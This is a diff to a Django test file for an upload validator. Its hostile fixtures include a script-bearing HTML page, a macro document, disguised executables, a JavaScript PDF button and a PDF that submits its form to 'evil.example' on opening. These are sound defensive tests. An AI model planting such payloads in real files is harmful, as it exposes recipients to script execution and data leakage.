@@ -11,7 +11,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from PIL import Image
 
-from mobility.common import files
+from mobility.common import filecheck, files
 from mobility.common.models import StoredFile
 
 from . import samples
@@ -23,15 +23,21 @@ def set_root(key, value):
     return lambda document: document.Root.__setitem__(key, value)
 
 
+SCRIPT_BUTTON = pikepdf.Dictionary(Subtype=NAME.Widget, FT=NAME.Btn, A=samples.action("JavaScript", JS="x"))
 HOSTILE = {
     "empty": (b"", "empty"),
     "text": (b"hello", "wrong_kind"),
     "program": (b"\x7fELF" + bytes(200), "wrong_kind"),
     "web page": (b"<html><script>alert(1)</script></html>", "wrong_kind"),
     "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "wrong_kind"),
+    "tiff from a scanner": (samples.picture("TIFF", mode="1", compression="group4"), "wrong_kind"),
+    "webp": (samples.picture("WEBP"), "wrong_kind"),
+    "program called a picture": (b"MZ\x90\x00" + bytes(300), "wrong_kind"),
     "gif": (samples.picture("GIF"), "wrong_kind"),
     "heic": (b"\x00\x00\x00\x18ftypheic" + bytes(100), "phone_photo"),
     "docx": (samples.zip_archive(), "office_file"),
+    "docm with a macro": (samples.zip_archive("word/vbaProject.bin"), "office_file"),
+    "rtf": (b"{\\rtf1 hello}", "office_file"),
     "old doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "office_file"),
     "junk before the header": (b"junk\n" + samples.pdf(), "leading_data"),
     "web page before the header": (b"<html>" + samples.pdf(), "leading_data"),
@@ -95,6 +101,18 @@ HOSTILE = {
         ),
         "active_pdf",
     ),
+    "button that runs a script": (
+        samples.changed_pdf(set_root("/AcroForm", pikepdf.Dictionary(Fields=[SCRIPT_BUTTON]))),
+        "active_pdf",
+    ),
+    "form that sends itself": (
+        samples.changed_pdf(set_root("/OpenAction", samples.action("SubmitForm", F="https://evil.example"))),
+        "active_pdf",
+    ),
+    "form in XML": (
+        samples.changed_pdf(set_root("/AcroForm", pikepdf.Dictionary(Fields=[], XFA=pikepdf.String("x")))),
+        "active_pdf",
+    ),
     "101 pages": (samples.pdf(101), "too_many_pages"),
     "swelling page": (samples.swelling_pdf(), "too_heavy"),
     "half a picture": (samples.picture(size=(400, 400))[:-400], "broken_image"),
@@ -117,7 +135,53 @@ def test_every_kind_of_refusal_has_its_own_sentence():
         sentences = [str(files.Unacceptable(kind)) for kind in files.SENTENCES]
     assert len(set(sentences)) == len(files.SENTENCES)
     assert all(sentence.endswith((".", ").")) for sentence in sentences)
-    assert {kind for _content, kind in HOSTILE.values()} | {"too_big", "not_saved"} == set(files.SENTENCES)
+    elsewhere = {
+        "too_big",
+        "not_saved",
+        "too_many_files",
+        "joined_too_big",
+        "no_such_page",
+        "photo_too_small",
+    }
+    assert {kind for _content, kind in HOSTILE.values()} | elsewhere == set(files.SENTENCES)
+
+
+def test_a_sentence_is_said_in_the_readers_language_and_names_the_file_among_several():
+    with translation.override("ru"):
+        assert str(files.Unacceptable("wrong_kind")).startswith("Принимаются только")
+    with translation.override("en"):
+        assert str(files.Unacceptable("empty", "b.pdf")).startswith("b.pdf: The file is empty.")
+
+
+# What phones and scanners send. The check itself, without a process of its own for each.
+HONEST = {
+    "progressive JPEG": (samples.picture(progressive=True), "JPEG"),
+    "CMYK JPEG of a print shop": (samples.picture(mode="CMYK"), "JPEG"),
+    "JPEG of 12 megapixels": (samples.picture(size=(4000, 3000)), "JPEG"),
+    "PNG with transparency": (samples.picture("PNG", mode="RGBA"), "PNG"),
+    "screenshot with a palette": (samples.picture("PNG", mode="P"), "PNG"),
+    "fax in CCITT": (samples.scanned_pdf("CCITTFaxDecode"), 1),
+    "scanner's JBIG2": (samples.scanned_pdf("JBIG2Decode"), 1),
+    "scan in JPEG": (samples.scanned_pdf("DCTDecode"), 1),
+    "PDF 1.3": (samples.pdf_as(force_version="1.3"), 3),
+    "PDF 2.0": (samples.pdf_as(force_version="2.0"), 3),
+    "PDF for the web": (samples.pdf_as(linearize=True), 3),
+    "PDF with packed objects": (
+        samples.pdf_as(object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True),
+        3,
+    ),
+    "PDF with blanks after its end": (samples.pdf(2) + b"\r\n\r\n", 2),
+    "form filled in": (samples.filled_form(), 1),
+    "100 pages": (samples.pdf(100), 100),
+}
+
+
+@pytest.mark.parametrize("case", HONEST)
+def test_honest_file_is_taken(case):
+    content, expected = HONEST[case]
+    finding, kept = filecheck.main(content, 100, 25_000_000)
+    assert finding.get("format", finding.get("pages")) == expected
+    assert bool(kept) == content.startswith((b"\xff\xd8", b"\x89PNG"))
 
 
 def test_eleven_megabytes_are_too_big_however_they_come(settings):
